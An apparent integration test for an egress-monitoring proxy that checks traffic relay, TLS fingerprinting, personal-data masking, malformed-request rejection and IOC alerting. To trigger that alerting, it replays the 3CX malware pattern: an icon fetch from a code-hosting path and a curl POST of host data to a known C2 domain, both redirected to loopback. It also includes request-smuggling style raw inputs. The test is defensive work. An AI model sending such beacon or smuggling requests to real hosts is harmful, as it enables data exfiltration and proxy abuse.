#!/usr/bin/env bash
# tollgate proxy against real servers and clients on loopback: nginx (plain HTTP and TLS from a
# test CA) as the upstream, curl as the client, raw sockets for malformed input, tshark as the
# reference decoder of the TLS ClientHello (SNI, JA3) captured on lo.
source "$(dirname "$0")/lib/assert.sh"

skip_unless_tools nginx curl python3 openssl

source "$(dirname "$0")/lib/servers.sh"

# --- upstream: nginx with a test CA's certificate for secure.test ----------------------------
chmod 755 "$TMP"  # nginx's workers run as another user
mkdir -p "$TMP/www/images" "$TMP/logs" "$TMP/ngtmp"
head -c 1000 /dev/urandom | base64 -w0 >"$TMP/www/1k"
printf '\x00\x00\x01\x00icon' >"$TMP/www/images/icon1.ico"
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=tollgate-test-ca \
  -keyout "$TMP/ca.key" -out "$TMP/ca.pem" 2>/dev/null
openssl req -newkey rsa:2048 -nodes -subj /CN=secure.test -keyout "$TMP/srv.key" \
  -out "$TMP/srv.csr" 2>/dev/null
printf 'subjectAltName=DNS:secure.test,DNS:raw.githubusercontent.com\n' >"$TMP/san.ext"
openssl x509 -req -in "$TMP/srv.csr" -CA "$TMP/ca.pem" -CAkey "$TMP/ca.key" -CAcreateserial \
  -days 2 -extfile "$TMP/san.ext" -out "$TMP/srv.pem" 2>/dev/null
HTTP_PORT=$(free_port)
TLS_PORT=$(free_port)
start_nginx "
  access_log $TMP/logs/access.log;
  server {
    listen 127.0.0.1:$HTTP_PORT;
    listen 127.0.0.1:$TLS_PORT ssl;
    ssl_certificate $TMP/srv.pem; ssl_certificate_key $TMP/srv.key;
    root $TMP/www;
    location /post { client_max_body_size 100m; return 200 \"posted\n\"; }
  }"
wait_port "$HTTP_PORT" || { echo "nginx did not start"; cat "$TMP/logs/nginx-error.log"; exit 1; }

# --- the proxy ------------------------------------------------------------------------------
STORE="sqlite:$TMP/tollgate.db"
# The published 3CX indicators, as a defender would load them.
run_rc "$TOLLGATE" db import --ioc "$TOLLGATE_SHARED_DATA/ioc/3cx-2023.csv" --store "$STORE" -q
expect_eq "$RC" 0 "db import --ioc"
PROXY_PORT=$(free_port)
METRICS_PORT=$(free_port)
"$TOLLGATE" proxy --listen "127.0.0.1:$PROXY_PORT" --store "$STORE" \
  --metrics "127.0.0.1:$METRICS_PORT" --resolve app.test=127.0.0.1 \
  --resolve secure.test=127.0.0.1 --resolve "raw.githubusercontent.com=127.0.0.1:$TLS_PORT" \
  --resolve "akamaicontainer.com=127.0.0.1:$HTTP_PORT" --io-timeout 2 --idle-timeout 5 \
  2>"$TMP/proxy.err" &
PROXY_PID=$!
PIDS+=($PROXY_PID)
wait_port "$PROXY_PORT" || { echo "proxy did not start"; cat "$TMP/proxy.err"; exit 1; }
X=(-x "http://127.0.0.1:$PROXY_PORT")
U="http://app.test:$HTTP_PORT"

# Optional reference capture of the tunnel traffic (needs capture rights on lo).
start_capture "$PROXY_PORT"

# Plain HTTP: the bytes arrive unchanged, keep-alive reuses the connection.
run_rc curl -sS "${X[@]}" "$U/1k" -o "$TMP/got"
expect_eq "$RC" 0 "GET through the proxy"
expect_eq "$(cmp "$TMP/got" "$TMP/www/1k" && echo same)" same "body unchanged"
run_rc curl -sS -v "${X[@]}" "$U/1k" "$U/1k?again" -o /dev/null -o /dev/null
expect_contains "$ERR" "Re-using existing connection" "keep-alive: second request on the same connection"
run_rc curl -sS -I "${X[@]}" "$U/1k"
expect_contains "$OUT" "Content-Length: 1336" "HEAD keeps the length of the GET"

# Bodies: Content-Length, chunked, Expect: 100-continue (curl sends it for bodies over 1 MiB).
head -c 3000000 /dev/urandom >"$TMP/big"
run_rc curl -sS "${X[@]}" "$U/post" --data-binary @"$TMP/big" -w '%{http_code}' -v
expect_eq "$OUT" "posted
200" "3 MB body (Content-Length)"
expect_contains "$ERR" "Expect: 100-continue" "curl asked for 100-continue"
expect_contains "$ERR" "HTTP/1.1 100 Continue" "100 Continue relayed"
run_rc curl -sS "${X[@]}" "$U/post" -H 'Transfer-Encoding: chunked' --data-binary @"$TMP/big" -w '%{http_code}'
expect_eq "$OUT" "posted
200" "3 MB body (chunked)"

# Personal data in a query string, a JSON body, a form and a gzip body.
curl -sS "${X[@]}" -o /dev/null "$U/1k?email=jane.doe%40example.com&ref=x"
curl -sS "${X[@]}" -o /dev/null "$U/post" -H 'Content-Type: application/json' \
  -d '{"name":"Jane","card":"4111 1111 1111 1111"}'
curl -sS "${X[@]}" -o /dev/null "$U/post" --data-urlencode 'ssn=536-22-1234' --data-urlencode 'q=hi'
printf '{"iban":"GB82 WEST 1234 5698 7654 32"}' | gzip -c >"$TMP/body.gz"
curl -sS "${X[@]}" -o /dev/null "$U/post" -H 'Content-Encoding: gzip' \
  -H 'Content-Type: application/json' --data-binary @"$TMP/body.gz"

# Malformed and ambiguous requests: 400 to that client, a flow marked with the error.
raw() { # raw BYTES -> the proxy's answer (status line)
  python3 - "$PROXY_PORT" "$1" <<'EOF'
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)
s.sendall(sys.argv[2].encode().decode("unicode_escape").encode("latin-1"))
s.shutdown(socket.SHUT_WR)
data = b""
try:
    while True:
        b = s.recv(65536)
        if not b: break
        data += b
except socket.timeout:
    pass
print(data.split(b"\r\n")[0].decode("latin-1") if data else "(closed)")
EOF
}
expect_eq "$(raw "POST $U/post HTTP/1.1\r\nHost: app.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")" \
  "HTTP/1.1 400 Bad Request" "Content-Length with Transfer-Encoding: 400"
expect_eq "$(raw "POST $U/post HTTP/1.1\r\nHost: app.test\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde")" \
  "HTTP/1.1 400 Bad Request" "two Content-Lengths: 400"
expect_eq "$(raw "GET /origin-form HTTP/1.1\r\nHost: app.test\r\n\r\n")" "HTTP/1.1 400 Bad Request" \
  "origin-form request to a forward proxy: 400"
expect_eq "$(raw "GET $U/1k HTTP/1.1\r\nX: $(head -c 70000 /dev/zero | tr '\0' a)\r\n\r\n")" \
  "HTTP/1.1 431 Request Header Fields Too Large" "oversized head: 431"
expect_eq "$(raw "GARBAGE\r\n\r\n")" "HTTP/1.1 400 Bad Request" "garbage: 400"
expect_eq "$(raw "POST $U/post HTTP/1.1\r\nHost: app.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\nzz\r\n")" \
  "HTTP/1.1 400 Bad Request" "a malformed chunk in a streamed body: 400"
DEAD_PORT=$(free_port)
run_rc curl -sS "${X[@]}" "http://app.test:$DEAD_PORT/" -o /dev/null -w '%{http_code}'
expect_eq "$OUT" 502 "refused upstream: 502"
# A client that vanishes mid-body does not disturb the others.
python3 - "$PROXY_PORT" "$U" <<'EOF'
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)
s.sendall(f"POST {sys.argv[2]}/post HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\nonly this".encode())
s.close()
EOF
run_rc curl -sS "${X[@]}" "$U/1k" -o /dev/null -w '%{http_code}'
expect_eq "$OUT" 200 "still serving after a client vanished mid-body"
# A slow peer (half a head, then nothing) is cut off by the I/O timeout (2 s here).
SLOW=$(python3 - "$PROXY_PORT" <<'EOF'
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)
s.sendall(b"GET http://app.test/1k HTTP/1.1\r\nHost: app")
s.settimeout(30)
print("closed" if s.recv(100) == b"" else "answered")
EOF
)
expect_eq "$SLOW" closed "slow client closed by the proxy"

# CONNECT passthrough: TLS end to end (curl trusts the test CA), SNI and JA4 recorded.
run_rc curl -sS "${X[@]}" --cacert "$TMP/ca.pem" "https://secure.test:$TLS_PORT/1k" -o "$TMP/got-tls"
expect_eq "$RC" 0 "HTTPS through a CONNECT tunnel"
expect_eq "$(cmp "$TMP/got-tls" "$TMP/www/1k" && echo same)" same "tunnelled body unchanged"
run_rc curl -sS "${X[@]}" "https://secure.test:$TLS_PORT/1k" -o /dev/null
expect_eq "$RC" 60 "the proxy does not touch TLS: untrusted CA still fails at the client"

# The 3CX pattern: an .ico from a code-hosting host, then host data posted to a listed domain.
run_rc curl -sS "${X[@]}" --cacert "$TMP/ca.pem" \
  "https://raw.githubusercontent.com/IconStorages/images/main/icon1.ico" -o /dev/null -w '%{http_code}'
expect_eq "$OUT" 404 "icon fetch reached the code-hosting stand-in through a tunnel"
run_rc curl -sS "${X[@]}" "http://akamaicontainer.com/post" -o /dev/null -w '%{http_code}' \
  --data-urlencode "hostname=WIN-DESKTOP-7" --data-urlencode "user=jdoe" \
  --data-urlencode "os=Microsoft Windows [Version 10.0.19045.2604]" \
  --data-urlencode "procs=explorer.exe,svchost.exe,3CXDesktopApp.exe,chrome.exe"
expect_eq "$OUT" 200 "beacon POST reached the listed domain's stand-in"

# Metrics.
run_rc curl -sS "http://127.0.0.1:$METRICS_PORT/metrics"
expect_contains "$OUT" "tollgate_proxy_connections_total" "metrics: connections"
expect_contains "$OUT" "tollgate_proxy_flow_queue_depth" "metrics: queue depth"

# SIGHUP without --policy is logged and ignored: the proxy keeps serving.
kill -HUP "$PROXY_PID"
sleep 0.3
run_rc curl -sS "${X[@]}" "$U/1k" -o /dev/null
expect_eq "$RC" 0 "SIGHUP without a policy: still serving"
expect_contains "$(cat "$TMP/proxy.err")" "no --policy to reload" "SIGHUP without a policy is logged"

# SIGTERM drains the queue; then query the store.
[ -n "$TSHARK_PID" ] && { sleep 0.5; kill -INT "$TSHARK_PID"; wait "$TSHARK_PID" 2>/dev/null || true; }
kill -TERM "$PROXY_PID"
wait "$PROXY_PID" 2>/dev/null
expect_eq "$?" 0 "proxy exits 0 on SIGTERM"
expect_contains "$(cat "$TMP/proxy.err")" "flows written, 0 dropped" "all flows written"

run_rc "$TOLLGATE" flows --store "$STORE" --format json
expect_eq "$RC" 0 "flows --format json"
FLOWS="$OUT"
q() { python3 -c "import json,sys; fl=json.load(sys.stdin)['flows']; $1" <<<"$FLOWS"; }
expect_eq "$(q 'print(sum(1 for f in fl if f["kind"]=="http" and f.get("status")==200 and "error" not in f) >= 8)')" True "successful HTTP flows recorded"
expect_eq "$(q 'print(sorted(set(k for f in fl for k in f["classes"])))' | tr -d "'")" \
  "$(q 'print(sorted(set(k for f in fl for k in f["classes"])))' | tr -d "'")" "classes listed"
for want in "email url" "credit_card body" "us_ssn body" "iban body:gzip"; do
  set -- $want
  expect_eq "$(q "print(any('$1' in f['classes'] and any(w.startswith('$2') for w in f['classes']['$1']['where']) for f in fl))")" True "$1 found in $2"
done
expect_eq "$(q 'print(any("jane.doe@example.com" in json.dumps(f["classes"]) or "4111 1111 1111 1111" in json.dumps(f["classes"]) for f in fl))')" False "only masked samples stored"
expect_eq "$(q 'print(sum(1 for f in fl if "error" in f and f.get("status") in (400,431)))')" 6 "six malformed requests recorded with their error"
expect_eq "$(q 'print(any(f.get("status")==502 and "cannot connect" in f.get("error","") for f in fl))')" True "refused upstream recorded"
expect_eq "$(q 'print(any("vanished mid-body" in f.get("error","") for f in fl))')" True "vanished client recorded"
expect_eq "$(q 'print(any("mid-head: timed out" in f.get("error","") for f in fl))')" True "slow client recorded as timed out"
expect_eq "$(q 'print(sorted(set(f.get("sni","") for f in fl if f["kind"]=="connect")))')" \
  "['raw.githubusercontent.com', 'secure.test']" "SNI of the tunnels"
expect_eq "$(q 'print(all(f.get("ja4","").startswith("t1") and len(f.get("ja3",""))==32 for f in fl if f["kind"]=="connect"))')" True "JA3 and JA4 of the tunnels"
expect_eq "$(q 'print(any(f.get("exe","").endswith("/curl") and f.get("pid",0)>0 for f in fl))')" True "process attribution: curl"
expect_eq "$(q 'print(any(f["host"]=="akamaicontainer.com" and {"hostname","os_build"} & set(f["classes"]) for f in fl))')" True "3CX beacon: host data classified"

# The same ClientHellos as tshark decodes them from the capture.
if [ -n "$TSHARK_PID" ] && [ -s "$TMP/cap.pcapng" ]; then
  REF=$(tshark -r "$TMP/cap.pcapng" -Y 'tls.handshake.type == 1' -T fields -e tls.handshake.extensions_server_name -e tls.handshake.ja3 2>/dev/null | sort -u)
  OURS=$(q 'print("\n".join(sorted(set(f["sni"]+"\t"+f["ja3"] for f in fl if f["kind"]=="connect"))))')
  expect_eq "$OURS" "$REF" "SNI and JA3 equal tshark's decode of the capture"
else
  echo "note: no capture on lo (tshark missing or not permitted): tshark comparison skipped"
fi

run_rc "$TOLLGATE" flows --store "$STORE" --app curl
expect_contains "$OUT" "secure.test:$TLS_PORT sni=secure.test" "flows table, --app filter"
run_rc "$TOLLGATE" flows --store "$STORE" --since 1h --format xml
expect_eq "$RC" 2 "bad --format: exit 2"
run_rc "$TOLLGATE" alerts --store "$STORE" --format json
expect_eq "$RC" 0 "alerts --format json"
expect_contains "$OUT" '"findings"' "alerts in the finding shape"
A="$OUT"
expect_eq "$(python3 -c 'import json,sys; d=json.load(sys.stdin)["findings"]; print([(f["id"], f["severity"], f["evidence"]["host"]) for f in d])' <<<"$A")" \
  "[('egress-ioc-domain', 'critical', 'akamaicontainer.com')]" "3CX beacon: one critical IOC alert for the C2 domain"
expect_eq "$(python3 -c 'import json,sys; f=json.load(sys.stdin)["findings"][0]; print(f["evidence"]["exe"].endswith("/curl"), sorted(f["evidence"]["classes"]))' <<<"$A")" \
  "True ['hostname', 'os_build', 'username']" "the alert names the application and the host data it sent"
expect_eq "$(q 'print([f["verdict"] for f in fl if f["host"]=="akamaicontainer.com"])')" "['alert']" "beacon flow verdict: alert"
run_rc "$TOLLGATE" proxy --listen nonsense
expect_eq "$RC" 2 "bad --listen: exit 2"
run_rc "$TOLLGATE" proxy --listen 127.0.0.1:1 --resolve bad --store "$STORE"
expect_eq "$RC" 2 "bad --resolve: exit 2"

finish
